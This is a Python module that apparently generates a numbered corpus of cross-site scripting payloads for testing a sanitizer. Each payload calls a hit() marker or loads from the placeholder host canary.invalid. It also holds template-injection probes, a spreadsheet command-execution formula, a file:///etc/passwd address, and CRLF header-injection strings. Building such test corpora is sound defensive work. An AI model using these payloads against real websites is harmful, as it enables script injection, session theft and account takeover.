"""Texts that try to run a script: vectors, contexts to break out of, encodings, abuses of each format.

`J` stands for the call that tells of an execution, `N` for the number of the payload, `C` for a host that must
never be asked anything.
"""

import re
from base64 import b64encode
from itertools import cycle

CANARY = "canary.invalid"

# Elements and attributes that run without anybody's help, or at a click.
ELEMENTS = (
    "<script>J</script>", "<SCRIPT>J</SCRIPT>", "<script\n>J</script>", "<script/x>J</script>",
    "<script type=module>J</script>", "<script src=//C/N.js></script>", "<script src=data:,J></script>",
    "<script>J//", "<svg><script>J</script></svg>", "<svg><script href=data:,J />", "<math><script>J</script>",
    "<img src=x onerror=J>", '<img src=x onerror="J">', "<img src=x onerror='J'>", "<img/src=x/onerror=J>",
    "<img src=x onerror=J//", "<IMG SRC=x ONERROR=J>", "<image src=x onerror=J>", "<img srcset=x onerror=J>",
    "<img\tsrc=x\tonerror=J>", "<img\nsrc=x\nonerror\n=\nJ>", "<img src=//C/N.gif>", "<img src=`x`onerror=J>",
    "<img src onerror=J>", "<img src=x onerror\x0c=J>", "<img lowsrc=//C/N>", "<img src=1 onerror=&#104;it(N)>",
    "<svg onload=J>", "<svg/onload=J>", "<svg\x0conload=J>", "<svg onload=J//", "<svg><svg onload=J>",
    "<svg><a xlink:href=javascript:J><text y=9>a</text></a></svg>", "<svg><a href=javascript:J><text y=9>a</text></a>",
    "<svg><animate onbegin=J attributeName=x dur=1s>", "<svg><set onbegin=J attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:J /><text y=9>a</text></a></svg>",
    "<svg><use href=//C/N.svg#x>", "<svg><image href=//C/N.svg>", "<svg><foreignObject><img src=x onerror=J>",
    "<svg><style><img src=x onerror=J></style>", "<svg><title><img src=x onerror=J></title>",
    "<svg><desc><![CDATA[</desc><script>J</script>]]>", "<svg><p><style><a id='</style><img src=x onerror=J>'>",
    "<math href=javascript:J>a</math>", "<math><mtext href=javascript:J>a", "<math><mi//xlink:href='javascript:J'>a",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=J&gt;'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src=x onerror=J>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=J>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=J></annotation-xml>",
    "<noscript><p title='</noscript><img src=x onerror=J>'>", "<template><img src=x onerror=J></template>",
    "<xmp><p title='</xmp><img src=x onerror=J>'>", "<noembed><p title='</noembed><img src=x onerror=J>'>",
    "<noframes><p title='</noframes><img src=x onerror=J>'>", "<plaintext><img src=x onerror=J>",
    "<style><p title='</style><img src=x onerror=J>'>", "<title><p title='</title><img src=x onerror=J>'>",
    "<textarea><p title='</textarea><img src=x onerror=J>'>", "<select><style></select><img src=x onerror=J></style>",
    "<select><option><script>J</script>", "<option><style></option></select><img src=x onerror=J></style>",
    "<body onload=J>", "<body onpageshow=J>", "<body onhashchange=J>", "<html onmouseover=J>", "<frameset onload=J>",
    "<iframe onload=J>", "<iframe src=javascript:top.J>", "<iframe srcdoc='<script>top.J</script>'>", "<iframe src=//C/N>",
    "<iframe src='data:text/html,<script>parent.J</script>'>", "<object data=javascript:J>", "<object data=//C/N>",
    "<object data='data:text/html,<script>parent.J</script>'>", "<embed src=javascript:J>", "<embed src=//C/N.swf>",
    "<applet code=//C/N>", "<portal src=//C/N>", "<video src=x onerror=J>", "<video><source onerror=J>",
    "<video poster=//C/N>", "<video oncanplay=J><source src=x>", "<audio src=x onerror=J>", "<audio src=//C/N>",
    "<track src=//C/N>", "<picture><source srcset=//C/N><img src=x onerror=J></picture>",
    "<input autofocus onfocus=J>", "<select autofocus onfocus=J>", "<textarea autofocus onfocus=J>",
    "<button autofocus onfocus=J>a</button>", "<a href=# autofocus onfocus=J>a</a>", "<div tabindex=0 autofocus onfocus=J>",
    "<input type=image src=x onerror=J>", "<input type=image src=//C/N>", "<input onblur=J autofocus><input autofocus>",
    "<details open ontoggle=J>", "<details ontoggle=J open><summary>a", "<dialog open onclose=J>a", "<marquee onstart=J>a",
    "<div popover id=p onbeforetoggle=J>a</div><button popovertarget=p>b", "<style onload=J></style>",
    "<style>@import'//C/N';</style>", "<style>body{background:url(//C/N)}</style>", "<link rel=stylesheet href=//C/N.css>",
    "<link rel=stylesheet href=data:text/css, onload=J>", "<link rel=prefetch href=//C/N>", "<link rel=icon href=//C/N>",
    "<meta http-equiv=refresh content='0;url=javascript:J'>", "<meta http-equiv=refresh content='0;url=//C/N'>",
    "<meta http-equiv=set-cookie content=a=b>", "<base href=//C/>", "<base href=javascript:J//>",
    "<form action=javascript:J><button>a</button></form>", "<form action=//C/N><button>a</button></form>",
    "<button formaction=javascript:J>a</button>", "<button form=x formaction=//C/N>a</button>",
    "<input type=submit formaction=javascript:J>", "<isindex action=javascript:J type=submit>",
    "<table background=javascript:J><tr><td>a</table>", "<table background=//C/N><tr><td>a</table>",
    "<table><tr><td background=//C/N>a</table>", "<div style=background:url(//C/N)>a</div>",
    "<div style='background-image:url(javascript:J)'>a</div>", "<div style='width:expression(J)'>a</div>",
    "<div style='-moz-binding:url(//C/N#x)'>a</div>", "<div style=animation-name:x onanimationstart=J>a</div>",
    "<div onmouseover=J>a</div>", "<div onpointerenter=J>a</div>", "<p onclick=J>a</p>", "<p onwheel=J>a</p>",
    "<div contenteditable onfocus=J autofocus>a</div>", "<div oncut=J contenteditable>a</div>", "<x onclick=J>a</x>",
    "<x onfocus=J tabindex=1 id=x>", "<x-y onpointerrawupdate=J>a</x-y>", "<bgsound src=javascript:J>", "<layer src=//C/N>",
    "<xml src=javascript:J>", "<xss style='behavior:url(//C/N)'>", "<a href=javascript:J>a</a>", "<a href='javascript:J'>a</a>",
    "<a href=JaVaScRiPt:J>a</a>", "<a href='java\tscript:J'>a</a>", "<a href='java\nscript:J'>a</a>",
    "<a href=' javascript:J'>a</a>", "<a href='\x01javascript:J'>a</a>", "<a href=&#106;avascript:J>a</a>",
    "<a href=javascript&colon;J>a</a>", "<a href=&#x6A&#x61vascript:J>a</a>", "<a href=javas&Tab;cript:J>a</a>",
    "<a href=vbscript:J>a</a>", "<a href='data:text/html,<script>J</script>'>a</a>", "<a href=javascript:J download>a</a>",
    "<a href=x ping=//C/N>a</a>", "<area href=javascript:J>", "<map><area href=javascript:J></map>",
    "<a href=javascript:J target=_blank>a</a>", "<a class=mention href=javascript:J>@amina</a>",
    "<a id=fn:1 href=javascript:J>a</a>", "<a title='\"><img src=x onerror=J>' href=x>a</a>",
    "<abbr title='\"><img src=x onerror=J>'>a</abbr>", "<td align='\"><img src=x onerror=J>'>a",
    "<ol start='\"><img src=x onerror=J>'><li>a</ol>", "<code class='language-x\" onmouseover=J'>a</code>",
    "<li id='fn-\"><img src=x onerror=J>'>a</li>", "<input type=checkbox disabled onfocus=J autofocus>",
    "<input type=image formaction=javascript:J>", "<blockquote cite=javascript:J>a</blockquote>",
    "<q cite=//C/N>a</q>", "<del cite=javascript:J>a</del>", "<div data-behaviour=poll data-poll-url=//C/N>",
    "<div data-behaviour='preview' data-preview-url='//C/N' data-preview-for=q>", "<form id=q><input name=attributes>",
    "<form><input name=nodeName></form>", "<a id=location href=javascript:J>a</a>", "<img name=body><img src=x onerror=J>",
)  # fmt: skip
# What the text might stand inside.
BREAKOUTS = (
    '">', "'>", "`>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</noscript>", "</option></select>",
    "</p>", "</td></tr></table>", "</code></pre>", "*/", '\\">', "\\'>", "%22%3E", "</a>", "</button>", "</summary></details>",
    "?>", "--!>", '"/>', "=>", "\n\n", "\r\n", "</template>", "</svg>", "</math>", "&quot;>", '"]>',
)  # fmt: skip
# The shortest ones, that fit anywhere.
SHORT = (
    "<svg onload=J>", "<img src=x onerror=J>", "<script>J</script>", "<body onload=J>", "<input autofocus onfocus=J>",
    "<details open ontoggle=J>", "<style onload=J></style>", "<iframe onload=J>", "<a href=javascript:J>a</a>",
    "<video src=x onerror=J>",
)  # fmt: skip
ATTRIBUTES = (
    '" autofocus onfocus=J x="', "' autofocus onfocus=J x='", "` autofocus onfocus=J x=`", '" onmouseover=J x="',
    '" onload=J x="', "' onerror=J '", "x onfocus=J autofocus", '" style=animation-name:x onanimationstart=J "',
    '"onfocus="J"autofocus="', "'onfocus='J'autofocus='", '" type=image src=x onerror=J "', '" srcdoc="<script>J</script>',
    '" href=javascript:J "', '" formaction=javascript:J "', '" data-behaviour=poll data-poll-url=//C/N "', '" id=contenu "',
    '"\x0confocus=J\x0cautofocus="', '"/onfocus=J/autofocus="', '"\tonfocus=J\tautofocus\t"', '\\" onfocus=J autofocus \\"',
    '" accesskey=x onclick=J "', '" contenteditable onfocus=J autofocus "', '" popover onbeforetoggle=J "', '" is="x" onclick=J "',
)  # fmt: skip
ADDRESSES = (
    "javascript:J", "JaVaScRiPt:J", "javascript://%0a(J)", "javascript:/*--></title>*/J", "java%0ascript:J", "java\tscript:J",
    "&#106;avascript:J", "&#x6a;avascript&#58;J", "javascript&colon;J", "javascript&#x3a;J", "\x01javascript:J",
    "\u00a0javascript:J", "//javascript:J", "javascript:%68it(N)", "javascript\\:J", "data:text/html,<script>J</script>",
    "data:text/html;base64,BASE64", "data:image/svg+xml,<svg onload=J>", "vbscript:J", "livescript:J",
    "feed:javascript:J", "view-source:javascript:J", "jar:javascript:J!/", "blob:javascript:J", "filesystem:javascript:J",
    "file:///etc/passwd", "x-javascript:J", "http:javascript:J", 'https://exemple.test/"onmouseover="J',
    "https://exemple.test/'><img src=x onerror=J>", "mailto:a@b.c?subject=<img src=x onerror=J>", "\\\\C\\N",
)  # fmt: skip
LINKS = (
    "[a](U)", "[a](<U>)", '[a](U "t")', "![a](U)", "<U>", "[a][N]\n\n[N]: U", "[![a](U)](U)", "U", "[a](U 't\" onclick=J')",
    "| a |\n|---|\n| [a](U) |", "- [x] [a](U)", "> [a](U)", "a[^1]\n\n[^1]: [a](U)", "# [a](U)", "**[a](U)**", "[a]( U )",
    "![a][N]\n\n[N]: U", "<a href='U'>a</a>", "[a\n](U)", "~~[a](U)~~",
)  # fmt: skip
MARKDOWN = (
    '```"><script>J</script>\na\n```', "```html onload=J\na\n```", '```{.x onclick="J"}\na\n```', "``` {#x onload=J}\na\n```",
    "```\n</code></pre><img src=x onerror=J>\n```", "~~~'onclick=J\na\n~~~", "    <img src=x onerror=J>", "`<img src=x onerror=J>`",
    "``</code><img src=x onerror=J>``", '*[HTML]: "><img src=x onerror=J>\n\nHTML', "*[a]: ' onmouseover=J '\n\na",
    'a[^"><img src=x onerror=J>]\n\n[^"><img src=x onerror=J>]: b', "a[^x]\n\n[^x]: <img src=x onerror=J>",
    "[^1]: a\n\n    <script>J</script>\n\nb[^1]", "- [x] <img src=x onerror=J>", '- [ ] " onfocus=J autofocus', "# <img src=x onerror=J>",
    "# t {onclick=J}", "# t {#x onclick=J}", "[a](x){onclick=J}", "a\n{: onclick=J }", "{: #x onload=J }", "![a](x){onerror=J}",
    '<http://x" onmouseover=J>', "<http://x' onmouseover=J>", '![a](x "onerror=J")', '![" onerror=J x="](x)', '![a](x" onerror="J)',
    "[a](x 'a\"onmouseover=\"J')", '[a](x "a\'onmouseover=\'J")', '[a][x]\n\n[x]: x "t\'onmouseover=\'J"', '@"onmouseover=J',
    "@amina<img src=x onerror=J>", "@<script>J</script>", "<!--><img src=x onerror=J>-->", "<!-- --!><img src=x onerror=J>",
    "<!--[if gte IE 4]><img src=x onerror=J><![endif]-->", "<![CDATA[<img src=x onerror=J>]]>", "<?xml ?><img src=x onerror=J>",
    "<!DOCTYPE x [<!ENTITY e 'J'>]>&e;<img src=x onerror=J>", "<!ELEMENT><img src=x onerror=J>", 'www.x.fr"><img src=x onerror=J>',
    'https://x.fr/"onmouseover="J', "https://x.fr/<img src=x onerror=J>", "user@x.fr<img src=x onerror=J>", "**<img src=x** onerror=J>",
    "<im**g src=x onerror=J**>", "<scr<script>ipt>J</scr</script>ipt>", "<<script>script>J<</script>/script>", "<img src=x on*error*=J>",
    "\\<img src=x onerror=J\\>", '<img src="`x`" onerror=J>', "<div markdown=1 onclick=J>\n*a*\n</div>", "<div>\n\n<img src=x onerror=J>\n\n</div>",
    "| <img src=x onerror=J> | b |\n|---|:-:|\n| c | d |", '| a |\n|:"onload=J:|\n| b |', "1. <img src=x onerror=J>\n\n    <svg onload=J>",
    "> <img src=x onerror=J\n> >", "<img src=x\n\nonerror=J>", "<p>a<img src=x onerror=J", '<a href="x" *onclick*=J>a</a>',
    "[TOC]\n\n# <svg onload=J>", "[a]: <javascript:J>\n\n[a]", "[<img src=x onerror=J>](x)", "[`</a><img src=x onerror=J>`](x)",
    '![`" onerror=J`](x)', "***<svg/onload=J>***", "~~<svg onload=J>~~", "H~2~<svg onload=J>", "==<svg onload=J>==", "++<svg onload=J>++",
    "\x02wzxhzdk:0\x03<img src=x onerror=J>", "\x02klzzwxh:0000\x03<svg onload=J>", "&#2;wzxhzdk:0&#3;<svg onload=J>", "a  \n<svg onload=J>  \nb",
)  # fmt: skip
ENCODED = (
    "&lt;img src=x onerror=J&gt;", "&amp;lt;img src=x onerror=J&amp;gt;", "&#60;img src=x onerror=J&#62;", "&#x3c;svg onload=J&#x3e;",
    "&LT;svg onload=J&GT;", "&lt<svg onload=J>", "\\u003cimg src=x onerror=J\\u003e", "\\x3cimg src=x onerror=J\\x3e", "%3Cimg src=x onerror=J%3E",
    "%253Csvg onload=J%253E", "%u003Csvg onload=J%u003E", "+ADw-script+AD4-J+ADw-/script+AD4-", "+ADwAcwB2AGcAIABvAG4AbABvAGEAZAA9AEoAPg-",
    "\uff1cimg src=x onerror=J\uff1e", "\ufe64svg onload=J\ufe65", "\u2039svg onload=J\u203a", "<\u200bscript>J</script>", "<s\u200dcript>J</script>",
    "\u202e<img src=x onerror=J>\u202c", "\u2066<svg onload=J>\u2069", "\ufeff<svg onload=J>", "<s\u0000cript>J</script>", "<\u0000svg onload=J>",
    "<img src=x onerror\u0000=J>", "<\u0085svg onload=J>", "<svg\u2028onload=J>", "<svg\u00a0onload=J>", "<svg\u3000onload=J>", "<svg\u180eonload=J>",
    "<\u0130mg src=x onerror=J>", "<\u017fcript>J</\u017fcript>", "<\u017fvg onload=J>", "<scr\u0131pt>J</scr\u0131pt>", "<svg on\u017foad=J>",
    "\u00c0\u00bcsvg onload=J\u00c0\u00be", "\ufffd<svg onload=J>", "<e\u0301svg onload=J>", "<\u0338svg onload=J>", "\x1b[31m<svg onload=J>\x1b[0m",
    "\x7f<svg onload=J>", "\x08<svg onload=J>", "\x0b<svg\x0bonload=J>", "<svg onload=J\x00>", "\u2028<svg onload=J>\u2029",
)  # fmt: skip
OTHER_TONGUES = (
    "</script><script>J</script>", '"};J;//', "';J;//", '";J;"', "'-J-'", '"-J-"', "`-J-`", "${J}", "#{J}", "<%= J %>", "\\';J;//", "\\\\';J//",
    "\u2028J\u2029", '{"__proto__":{"innerHTML":"<img src=x onerror=J>"}}', '{"a":"</script><svg onload=J>"}', "]]>;J;//", "*/J/*", "//\nJ",
    "{{constructor.constructor('J')()}}", "{{ 31337 * 3 }}", "{% print(31337 * 3) %}", "{{ ''.__class__.__mro__ }}", "{#<svg onload=J>#}",
    "{{ config }}", "{{ request.application }}", "{% raw %}<svg onload=J>{% endraw %}", "{{ '<svg onload=J>' | safe }}", "[[31337*3]]",
    "x{}*{background:url(//C/N)}", "</style><svg onload=J>", "@import'//C/N'", ";background:url(//C/N)", "expression(J)", "\\3c svg onload=J>",
    '=HYPERLINK("javascript:J")', "=cmd|' /C calc'!A0", "@SUM(1)<svg onload=J>", "+J", "-J", "\tJ", '"><svg onload=J>.csv', "../<svg onload=J>.csv",
    'a.csv"; filename="N.html', "a.html", "a.svg", "a.csv\r\nContent-Type: text/html\r\n\r\n<script>J</script>", "x\r\nSet-Cookie: a=b",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='J'/>", "<?xml-stylesheet href='javascript:J'?>", "<x xmlns='http://www.w3.org/1999/xhtml'><script>J</script></x>",
    "<ruby><rt><img src=x onerror=J>", '" /> <mark><svg onload=J></mark>', "<mark>fuite</mark><svg onload=J>", "fuite<svg onload=J>fuite",
    '"@prefix <javascript:J> <img src=x onerror=J> .', '""" <svg onload=J> """', "\\n<svg onload=J>", "a@b.c<svg onload=J>", "<a@b.c onmouseover=J>",
    "' OR 1=1 --<svg onload=J>", "javascript:J", "data:text/html,<script>J</script>",
)  # fmt: skip


def templates() -> list[str]:
    """Every hostile text, once, before its number is written into it."""
    out = cycle(BREAKOUTS)
    found = [*ELEMENTS, *(next(out) + each for each in ELEMENTS[::8]), *ATTRIBUTES]
    found += [breakout + SHORT[rank % len(SHORT)] for rank, breakout in enumerate(BREAKOUTS)]
    addresses = cycle(ADDRESSES)
    found += [form.replace("U", next(addresses)) for form in LINKS for _ in range(3)]
    found += [*ADDRESSES, *MARKDOWN, *ENCODED, *OTHER_TONGUES]
    return list(dict.fromkeys(found))


def payloads() -> list[str]:
    """The same texts, each telling its own number when it runs."""
    return [_numbered(template, number) for number, template in enumerate(templates())]


def _numbered(template: str, number: int) -> str:
    """A text with its call, its number and the canary's host written into it."""
    call = f"hit({number})"
    encoded = b64encode(f"<script>{call}</script>".encode()).decode()
    words = {"J": call, "N": str(number), "C": CANARY, "BASE64": encoded}
    return re.sub(r"(?<![A-Za-z])(BASE64|J|N|C)(?![A-Za-z])", lambda found: words[found[1]], template)
